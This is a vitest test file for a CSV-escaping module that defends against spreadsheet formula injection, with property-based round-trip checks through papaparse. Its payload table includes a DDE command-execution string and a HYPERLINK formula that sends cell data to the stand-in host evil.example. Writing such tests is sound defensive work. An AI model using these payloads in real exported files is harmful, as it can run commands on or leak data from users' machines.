import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import Papa from 'papaparse';
import { csvLine, csvNumber, csvText, csvValue } from './csvCell';

/** What a spreadsheet reads back once the neutralising apostrophe is taken off. */
const unprefix = (s: string) => (s.startsWith("'") ? s.slice(1) : s);

describe('csvText: OWASP CSV injection payloads are neutralised', () => {
  const payloads: [string, string][] = [
    // The payload from the audit: starts like a negative number but is a formula.
    [`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`,
    ],
    ['=1+1', "'=1+1"],
    ['+cmd|calc', "'+cmd|calc"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['-', "'-"],
    ['--1', "'--1"],
    ['-1-1', "'-1-1"],
    ['-1e', "'-1e"],
    ['+', "'+"],
  ];
  for (const [input, expected] of payloads)
    it(JSON.stringify(input), () => expect(csvText(input)).toBe(expected));

  it('leaves plain numbers written as text alone (negative numbers stay numbers)', () => {
    for (const n of ['-5', '-12.5', '+3', '-0.5', '-.5', '-1e-7', '-2E+10', '12', '1.'])
      expect(csvText(n)).toBe(n);
  });

  it('quotes the delimiter, quotes, ; and line breaks; leaves other text as is', () => {
    expect(csvText('Acme, Inc.')).toBe('"Acme, Inc."');
    expect(csvText('say "hi"')).toBe('"say ""hi"""');
    expect(csvText('a;b')).toBe('"a;b"');
    expect(csvText('two\nlines')).toBe('"two\nlines"');
    expect(csvText('cr\rhere')).toBe('"cr\rhere"');
    expect(csvText('ガンマ商事')).toBe('ガンマ商事');
    expect(csvText('')).toBe('');
    expect(csvText('a=b')).toBe('a=b');
  });

  it('with a tab delimiter, quotes tabs instead of commas', () => {
    expect(csvText('a,b', '\t')).toBe('a,b');
    expect(csvText('a\tb', '\t')).toBe('"a\tb"');
    expect(csvText('a;b', '\t')).toBe('"a;b"');
    expect(csvText('\tx', '\t')).toBe(`"'\tx"`);
  });

  it('writes numbers, booleans and missing values as values, never prefixed', () => {
    expect(csvValue(-5)).toBe('-5');
    expect(csvValue(-1e-7)).toBe('-1e-7');
    expect(csvValue(NaN)).toBe('');
    expect(csvNumber(NaN)).toBe('');
    expect(csvValue(null)).toBe('');
    expect(csvValue(undefined)).toBe('');
    expect(csvValue(true)).toBe('true');
    expect(csvValue('-5')).toBe('-5');
    expect(csvLine(['a', -1, null, '=x', false])).toBe("a,-1,,'=x,false");
  });
});

describe('csvText round trip through papaparse', () => {
  // Text biased towards what matters: formula starts, full-width forms, quotes, delimiters.
  const piece = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '\r\n',
    '"',
    ',',
    ';',
    "'",
    '＝',
    '＋',
    '－',
    '＠',
    '1',
    '.',
    'e',
    'a',
    ' ',
    '商',
  );
  const cell = fc.oneof(
    fc.array(piece, { maxLength: 8 }).map((p) => p.join('')),
    fc.string({ unit: 'grapheme', maxLength: 12 }),
    fc.double({ noNaN: true }).map(String),
  );

  for (const delimiter of [',', '\t']) {
    it(`rows of text read back as the original cells (delimiter ${JSON.stringify(delimiter)})`, () => {
      fc.assert(
        fc.property(
          fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 6 }),
          (rows) => {
            const width = rows[0].length;
            const grid = rows.map((r) => Array.from({ length: width }, (_, k) => r[k] ?? 'x'));
            const text = grid.map((r) => csvLine(r, delimiter)).join('\n') + '\n';
            const back = Papa.parse<string[]>(text, {
              delimiter,
              newline: '\n',
              skipEmptyLines: false,
            });
            expect(back.errors).toEqual([]);
            const data = back.data.slice(0, grid.length);
            expect(data).toHaveLength(grid.length);
            data.forEach((r, i) =>
              r.forEach((got, k) => {
                const want = grid[i][k];
                // A cell comes back as written, or with the one neutralising apostrophe.
                expect(got === want || (got === "'" + want && unprefix(got) === want)).toBe(true);
                // Prefixed exactly when it starts like a formula and is not a plain number.
                const risky = /^[=+\-@\t\r＝＋－＠]/.test(want);
                const plain = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(want);
                expect(got !== want).toBe(risky && !plain);
              }),
            );
          },
        ),
        { numRuns: 400 },
      );
    });
  }
});
